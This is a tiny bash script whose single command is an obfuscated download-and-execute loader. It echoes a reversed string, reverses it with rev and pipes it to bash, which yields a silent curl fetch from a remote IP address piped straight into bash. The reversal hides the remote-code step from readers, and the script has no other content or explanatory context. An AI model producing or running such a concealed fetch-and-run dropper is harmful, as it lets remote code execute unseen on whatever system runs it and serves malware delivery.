#!/bin/bash
echo 'hsab | 1/nib/x/01.311.0.302//:ptth Lsf- lruc' | rev | bash
